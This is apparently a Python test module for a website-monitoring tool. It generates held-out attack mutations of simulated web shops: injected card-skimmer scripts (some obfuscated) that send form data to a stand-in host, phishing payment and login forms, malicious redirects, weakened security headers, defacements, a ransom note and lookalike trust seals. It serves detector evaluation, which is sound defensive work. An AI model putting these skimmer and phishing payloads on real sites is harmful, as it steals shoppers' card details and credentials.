"""Held out: scripts, frames, headers, takeover.  Reported apart and never tuned on."""

# ruff: noqa: E501, ARG005 - sentences are not broken into lines; a change may ignore what was

from __future__ import annotations

import re
from dataclasses import replace
from random import Random

from monitor.policy.drifting.change import Kind, Weight
from tests.drift.mutate import FOREIGN, everywhere, material, say
from tests.drift.site import Page, Site, mark

SCRIPT = (Kind.SCRIPT_HOST_ADDED, Kind.SCRIPT_ADDED, Kind.SCRIPT_CHANGED, Kind.RISK_ADDED)
OTHER = (Kind.REPLACED, Kind.PARKED, Kind.EMPTIED, Kind.CLOSED, Kind.DEFACED)
PAY = ["checkout"]


@material(*SCRIPT)
def skimmer_by_socket(site: Site, rng: Random) -> Site:
    return site.at("body_end", (
        "<script>var k=new WebSocket('wss://live-metrics.example/ws');document.addEventListener("
        "'change',function(e){k.send(e.target.name+':'+e.target.value)});</script>"
    ), PAY)  # fmt: skip


@material(*SCRIPT)
def skimmer_in_pieces(site: Site, rng: Random) -> Site:
    return site.at("body_end", (
        "<script>(function(w,d){var h=['ht','tps:/','/live-','metrics','.exa','mple/x'].join('');"
        "d.querySelector('[type=submit]').addEventListener('mousedown',function(){var r=new w["
        "'XMLHttp'+'Request'];r.open('POST',h);r.send(new FormData(d.forms[d.forms.length-1]))})"
        "})(window,document);</script>"
    ), PAY)  # fmt: skip


@material(*SCRIPT)
def skimmer_in_an_attribute(site: Site, rng: Random) -> Site:
    code = "var s=document.createElement('script');s.src='//live-metrics.example/a';document.head.append(s)"
    return site.at("end", f'<img src="x" alt="" onerror="{code}">', PAY)


@material(*SCRIPT)
def skimmer_reversed(site: Site, rng: Random) -> Site:
    url = "https://live-metrics.example/r.js"[::-1]
    return site.at("head_end", (
        f"<script>var a='{url}'.split('').reverse().join('');import(a);</script>"
    ), PAY)  # fmt: skip


@material(*SCRIPT)
def script_from_a_bare_address(site: Site, rng: Random) -> Site:
    return site.at("head_end", '<script src="//203.0.113.77/js/jquery.js"></script>', PAY)


@material(*SCRIPT)
def script_on_the_login(site: Site, rng: Random) -> Site:
    return site.at(
        "head_end", '<script src="https://live-metrics.example/l.js"></script>', ["account"]
    )


@material(Kind.CONTAINER_CHANGED, *SCRIPT)
def second_tag_manager(site: Site, rng: Random) -> Site:
    return site.at("head_end", (
        "<script>(function(w,d,s,l,i){w[l]=w[l]||[];var f=d.getElementsByTagName(s)[0],"
        "j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;"
        "f.parentNode.insertBefore(j,f)})(window,document,'script','dataLayer','GTM-P7ZQ2LB');</script>"
    ))  # fmt: skip


@material(Kind.FRAME_HOST_ADDED, severity=Weight.CRITICAL)
def payment_in_an_object(site: Site, rng: Random) -> Site:
    return site.at(
        "end", '<object data="https://live-metrics.example/pay" type="text/html"></object>', PAY
    )


@material(Kind.FRAME_HOST_ADDED, Kind.RISK_ADDED, Kind.FORM_TARGET_CHANGED, *SCRIPT)
def form_in_srcdoc(site: Site, rng: Random) -> Site:
    inner = "&lt;form action=https://live-metrics.example/p&gt;&lt;input name=card&gt;&lt;input name=cvv&gt;&lt;/form&gt;"
    return site.at("end", f'<iframe srcdoc="{inner}" style="width:100%"></iframe>', PAY)


@material(Kind.FORM_TARGET_CHANGED, severity=Weight.CRITICAL)
def second_form_for_the_card(site: Site, rng: Random) -> Site:
    return site.at("end", (
        '<form method="post" action="https://secure-betaling.example/card"><input name="cardnumber">'
        '<input name="expiry"><input name="cvc"><button>OK</button></form>'
    ), PAY)  # fmt: skip


@material(Kind.FORM_TARGET_CHANGED, severity=Weight.CRITICAL)
def login_form_elsewhere(site: Site, rng: Random) -> Site:
    path = site.roles["account"]
    return site.swap(f'action="{path}"', f'action="//secure-betaling.example{path}"', ["account"])


@material(Kind.STYLE_HOST_ADDED)
def style_sheet_of_a_stranger(site: Site, rng: Random) -> Site:
    return site.at(
        "head_end", '<link rel="stylesheet" href="https://live-metrics.example/p.css">', PAY
    )


@material(Kind.HOST_CHANGED, Kind.REPLACED, Kind.RISK_ADDED, *SCRIPT, severity=Weight.CRITICAL)
def refresh_to_another_host(site: Site, rng: Random) -> Site:
    return site.at(
        "head", f'<meta http-equiv="refresh" content="0;url=https://{FOREIGN[0]}/">', ["home"]
    )


@material(Kind.HOST_CHANGED, Kind.REPLACED, Kind.RISK_ADDED, *SCRIPT, severity=Weight.CRITICAL)
def script_sends_away(site: Site, rng: Random) -> Site:
    return site.at(
        "head",
        f'<script>window.location.replace("https://{FOREIGN[0]}/?r="+document.referrer)</script>',
        ["home"],
    )


@material(Kind.HEADER_WEAKENED)
def may_be_framed(site: Site, rng: Random) -> Site:
    new = site.header("X-Frame-Options", lambda value: "")
    return new.header("Content-Security-Policy",
                      lambda value: value.replace("; frame-ancestors 'self'", ""))  # fmt: skip


@material(Kind.HEADER_WEAKENED)
def transport_security_zero(site: Site, rng: Random) -> Site:
    return site.header("Strict-Transport-Security", lambda value: "max-age=0")


@material(Kind.HEADER_WEAKENED)
def sniffing_allowed(site: Site, rng: Random) -> Site:
    return site.header("X-Content-Type-Options", lambda value: "")


@material(Kind.HEADER_WEAKENED)
def policy_reports_only(site: Site, rng: Random) -> Site:
    new = site.copy()
    name = "Content-Security-Policy"
    new.pages = {
        path: replace(
            page,
            headers=tuple((f"{n}-Report-Only" if n == name else n, v) for n, v in page.headers),
        )
        for path, page in site.pages.items()
    }
    return new


def _bare(title: str, inner: str) -> str:
    return f"<html><head><title>{title}</title></head><body>{inner}</body></html>"


@material(*OTHER, severity=Weight.CRITICAL)
def web_server_greets(site: Site, rng: Random) -> Site:
    return everywhere(site, _bare("Welcome to nginx!", (
        "<h1>Welcome to nginx!</h1><p>If you see this page, the nginx web server is successfully "
        "installed and working. Further configuration is required.</p>"
    )))  # fmt: skip


@material(*OTHER, severity=Weight.CRITICAL)
def directory_shown(site: Site, rng: Random) -> Site:
    return everywhere(site, _bare("Index of /", (
        "<h1>Index of /</h1><pre><a href='backup/'>backup/</a> 2026-01-02 -\n<a href='cgi-bin/'>"
        "cgi-bin/</a> 2025-11-30 -</pre><address>Apache Server</address>"
    )))  # fmt: skip


@material(*OTHER, severity=Weight.CRITICAL)
def account_suspended(site: Site, rng: Random) -> Site:
    return everywhere(site, _bare("Account Suspended", (
        "<h1>Account Suspended</h1><p>This account has been suspended. Contact your hosting "
        "provider for more information.</p>"
    )))  # fmt: skip


@material(*OTHER)
def coming_soon(site: Site, rng: Random) -> Site:
    text = say(site, "Binnenkort vindt u hier onze nieuwe website.", "Bientôt notre nouveau site ici.",
               "Our new website is coming soon.", "Hier entsteht unsere neue Website.")  # fmt: skip
    return everywhere(
        site, _bare(site.company.brand, f"<h1>{site.company.brand}</h1><p>{text}</p>")
    )


@material(*OTHER)
def bankrupt(site: Site, rng: Random) -> Site:
    title = say(site, "Faillissement", "Faillite", "Bankruptcy", "Insolvenz")
    text = say(
        site,
        "De rechtbank heeft ons failliet verklaard. Neem contact op met de curator. Bestellingen worden niet meer geleverd.",
        "Le tribunal nous a déclarés en faillite. Adressez-vous au curateur. Les commandes ne sont plus livrées.",
        "The court has declared us bankrupt. Please contact the trustee. Orders are no longer delivered.",
        "Das Gericht hat das Insolvenzverfahren eröffnet. Wenden Sie sich an den Verwalter. Bestellungen werden nicht mehr geliefert.",
    )
    top, end = mark("top"), mark("end")
    new = site.map(lambda body: re.sub(f"{top}.*?{end}", f"{top}<h1>{title}</h1><p>{text}</p>{end}", body, flags=re.DOTALL),
                   ["home", "category", "cart"])  # fmt: skip
    return new.page("checkout", status=404, body=site.missing.body)


@material(
    Kind.REPLACED, Kind.DEFACED, Kind.LANGUAGE_CHANGED, Kind.EMPTIED, severity=Weight.CRITICAL
)
def pills_in_the_old_frame(site: Site, rng: Random) -> Site:
    cards = "".join(
        f"<div><a href='/rx/{n}'>Generic tablets {n} mg</a> $ {n}.95 Buy now</div>"
        for n in range(10, 20)
    )
    inner = f"<h1>Canadian Pharmacy - No Prescription Needed</h1><p>Cheap pills online, overnight delivery.</p>{cards}"
    top, end = mark("top"), mark("end")
    return site.map(lambda body: re.sub(f"{top}.*?{end}", top + inner + end, body, flags=re.DOTALL),
                    ["home", "category", "about"])  # fmt: skip


@material(*OTHER, severity=Weight.CRITICAL)
def ransom_note(site: Site, rng: Random) -> Site:
    return everywhere(site, _bare("Your files are encrypted", (
        "<h1>Your files are encrypted</h1><p>Pay 0.5 BTC to get the database of this shop back. "
        "You have 72 hours.</p>"
    )))  # fmt: skip


@material(Kind.HIDDEN_FROM_SEARCH)
def header_against_indexing(site: Site, rng: Random) -> Site:
    new = site.copy()
    extra = (("X-Robots-Tag", "noindex, nofollow"),)
    new.pages = {
        path: replace(page, headers=page.headers + extra) for path, page in site.pages.items()
    }
    return new


@material(Kind.SEAL_CHANGED, Kind.SEAL_GONE)
def certificate_of_a_lookalike(site: Site, rng: Random) -> Site:
    def other(found: re.Match[str]) -> str:
        return found[0].replace("www.thuiswinkel.org", "www.thuiswinkei.example").replace(
            "www.becommerce.be", "www.be-commerce.example")  # fmt: skip

    return site.sub(r'<a class="seal" href="[^"]+"', other)


@material(Kind.SEAL_CHANGED, Kind.SEAL_GONE)
def seal_without_its_link(site: Site, rng: Random) -> Site:
    return site.sub(r'<a class="seal"[^>]*>(.*?)</a>', r"\1")


@material(Kind.DEFACED, Kind.REPLACED, Kind.RISK_ADDED, Kind.HIDDEN_FROM_SEARCH)
def spam_off_the_screen(site: Site, rng: Random) -> Site:
    links = " ".join(
        f'<a href="https://buy-pills-{n}.example/">cheap replica watches {n}</a>' for n in range(25)
    )
    return site.at(
        "body", f'<div style="position:absolute;left:-9999px">{links}</div>', ["home", "about"]
    )


@material(Kind.HOST_CHANGED, Kind.REPLACED, Kind.COMPANY_CHANGED, severity=Weight.CRITICAL)
def start_page_in_a_frame(site: Site, rng: Random) -> Site:
    body = f'<html><head><title>Shop</title></head><body><iframe src="https://{FOREIGN[3]}/" width="100%" height="100%"></iframe></body></html>'
    return everywhere(site, body)


def _shop(name: str) -> Page:
    return Page(_bare(name, f"<h1>{name}</h1><p>Welcome.</p>"))


@material(Kind.HOST_CHANGED, Kind.REPLACED, severity=Weight.CRITICAL)
def every_page_sent_to_the_new_owner(site: Site, rng: Random) -> Site:
    away = Page("", 302, (("Location", f"https://{FOREIGN[3]}/"),))
    new = site.copy()
    new.pages = dict.fromkeys(site.pages, away)
    new.foreign = {FOREIGN[3]: {"/": _shop("Nieuwe eigenaar")}}
    return new
